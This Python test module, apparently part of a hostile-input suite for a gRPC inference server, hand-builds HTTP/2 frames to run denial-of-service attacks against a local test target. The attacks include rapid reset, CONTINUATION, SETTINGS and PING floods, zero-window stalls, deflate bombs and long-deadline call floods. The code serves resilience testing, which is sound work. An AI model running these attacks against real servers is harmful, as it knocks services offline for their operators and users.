"""Attacks over HTTP/2 and gRPC, by frames."""

from __future__ import annotations

import contextlib
import socket
import time
import zlib

from tests.hostile.place import Place, connections, hold, pour

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113, section 4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _text(value: bytes) -> bytes:
    size = len(value)
    return (bytes([size]) if size < 127 else bytes([127, size - 127])) + value


def head(method: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """A block of literal headers without indexing (RFC 7541, section 6.2.2)."""
    path = b"/inference.GRPCInferenceService/" + method
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"127.0.0.1")]
    fields += [(b"content-type", b"application/grpc"), (b"te", b"trailers"), *more]
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields)


def message(content: bytes = b"", compressed: bool = False) -> bytes:
    """A gRPC message with its prefix."""
    return bytes([compressed]) + len(content).to_bytes(4, "big") + content


def opened(place: Place, settings: bytes = b"", receive_bytes: int | None = None) -> socket.socket:
    """A connection that has said hello."""
    client = place.connect(place.grpc, receive_bytes)
    client.sendall(PREFACE + frame(_SETTINGS, 0, 0, settings))
    return client


def attack_silent(place: Place, seconds: float) -> None:
    with connections(place, 200, place.grpc) as clients:
        hold(clients, PREFACE[:10], seconds)


def attack_unread_pings(place: Place, seconds: float) -> None:
    with opened(place, receive_bytes=4096) as client:
        pour(client, frame(_PING, 0, 0, b"x" * 8) * 4000, seconds)


def attack_unread_settings(place: Place, seconds: float) -> None:
    with opened(place, receive_bytes=4096) as client:
        pour(client, frame(_SETTINGS, 0, 0) * 4000, seconds)


def attack_many_unread_answers(place: Place, seconds: float) -> None:
    """Calls with a window of 0: every answer waits."""
    with opened(place, b"\0\4\0\0\0\0") as client:
        for call in range(1, 20_001, 2):
            with contextlib.suppress(OSError):
                client.sendall(frame(_HEADERS, _END_HEADERS, call, head(b"ServerMetadata")))
                client.sendall(frame(_DATA, _END_STREAM, call, message()))
        time.sleep(seconds)


def _with_streams(place: Place, count: int = 1000) -> socket.socket:
    client = opened(place)
    block = head(b"ModelStreamInfer")
    client.sendall(b"".join(frame(_HEADERS, _END_HEADERS, 2 * each + 1, block) for each in range(count)))
    time.sleep(0.3)
    return client


def attack_settings_by_the_thousand(place: Place, seconds: float) -> None:
    with _with_streams(place) as client:
        pour(client, frame(_SETTINGS, 0, 0, b"\0\4\0\0\xff\xff" * 20_000), seconds)


def attack_empty_settings(place: Place, seconds: float) -> None:
    with _with_streams(place) as client:
        pour(client, frame(_SETTINGS, 0, 0) * 7000, seconds)


def attack_window_updates(place: Place, seconds: float) -> None:
    with _with_streams(place) as client:
        pour(client, frame(_WINDOW, 0, 0, b"\0\0\0\1") * 20_000, seconds)


def attack_table_sizes(place: Place, seconds: float) -> None:
    with opened(place) as client:
        pour(client, frame(_HEADERS, _END_HEADERS, 1, b"\x20" * 1_000_000 + head(b"ServerLive")), seconds)


def attack_empty_continuations(place: Place, seconds: float) -> None:
    with opened(place) as client:
        client.sendall(frame(_HEADERS, 0, 1, b""))
        pour(client, frame(_CONTINUATION, 0, 1) * 7000, seconds)


def attack_empty_data(place: Place, seconds: float) -> None:
    with _with_streams(place, 10) as client:
        pour(client, frame(_DATA, 0, 1) * 7000, seconds)


def attack_rapid_resets(place: Place, seconds: float) -> None:
    with opened(place) as client:
        end, call, block = time.monotonic() + seconds, 1, head(b"ModelInfer")
        with contextlib.suppress(OSError):
            while time.monotonic() < end:
                burst = b""
                for _ in range(500):
                    burst += frame(_HEADERS, _END_HEADERS, call, block) + frame(_RESET, 0, call, b"\0\0\0\x08")
                    call += 2
                client.sendall(burst)


def attack_endless_unary(place: Place, seconds: float) -> None:
    with opened(place) as client:
        client.sendall(frame(_HEADERS, _END_HEADERS, 1, head(b"ModelInfer")))
        pour(client, frame(_DATA, 0, 1, message(b"x" * 16_000)), seconds)


def attack_endless_stream(place: Place, seconds: float) -> None:
    """Requests of a stream, sent faster than they are answered, for a client that reads nothing."""
    with opened(place, b"\0\4\0\0\0\0") as client:
        client.sendall(frame(_HEADERS, _END_HEADERS, 1, head(b"ModelStreamInfer")))
        pour(client, frame(_DATA, 0, 1, message(b"\n\6nobody" + b":\x80\x70" + bytes(14_336))) * 10, seconds)


def attack_half_messages(place: Place, seconds: float) -> None:
    """A thousand streams, each with some of a message."""
    with _with_streams(place) as client:
        for each in range(1000):
            with contextlib.suppress(OSError):
                client.settimeout(1.0)
                client.sendall(frame(_DATA, 0, 2 * each + 1, b"\0\1\0\0\0" + bytes(16_000)))
        time.sleep(seconds)


def attack_deflated_zeros(place: Place, seconds: float) -> None:
    zeros = zlib.compress(bytes(64 << 20), 9)
    with opened(place) as client:
        client.sendall(frame(_HEADERS, _END_HEADERS, 1, head(b"ModelInfer", (b"grpc-encoding", b"deflate"))))
        content = message(zeros, compressed=True)
        with contextlib.suppress(OSError):
            for _ in range(20):
                for begin in range(0, len(content), 16_000):
                    client.sendall(frame(_DATA, 0, 1, content[begin : begin + 16_000]))
        time.sleep(seconds)


def attack_deflated_fields(place: Place, seconds: float) -> None:
    """A small message that decodes to millions of empty fields."""
    fields = zlib.compress(b"\n\6digits" + b"*\0" * (8 << 20), 9)
    with opened(place) as client:
        client.sendall(frame(_HEADERS, _END_HEADERS, 1, head(b"ModelInfer", (b"grpc-encoding", b"deflate"))))
        content = message(fields, compressed=True)
        with contextlib.suppress(OSError):
            for begin in range(0, len(content), 16_000):
                last = begin + 16_000 >= len(content)
                client.sendall(frame(_DATA, _END_STREAM if last else 0, 1, content[begin : begin + 16_000]))
        time.sleep(seconds)


def attack_long_deadlines(place: Place, seconds: float) -> None:
    """Twenty thousand calls with a deadline of a day, as patient clients send them."""
    with opened(place) as client:
        end, call = time.monotonic() + 3 * seconds, 1
        block = head(b"ServerLive", (b"grpc-timeout", b"24H"))
        client.setblocking(False)
        while call < 40_001 and time.monotonic() < end:
            burst = b"".join(
                frame(_HEADERS, _END_HEADERS, number, block) + frame(_DATA, _END_STREAM, number, message())
                for number in range(call, call + 200, 2)
            )
            call += 200
            if not _sent(client, burst, end):
                return


def _sent(client: socket.socket, data: bytes, end: float) -> bool:
    """Send all of it, reading what comes meanwhile; whether the server is still there."""
    while data and time.monotonic() < end:
        with contextlib.suppress(BlockingIOError):
            if not client.recv(1 << 20):
                return False
        try:
            data = data[client.send(data) :]
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            return False
    return True
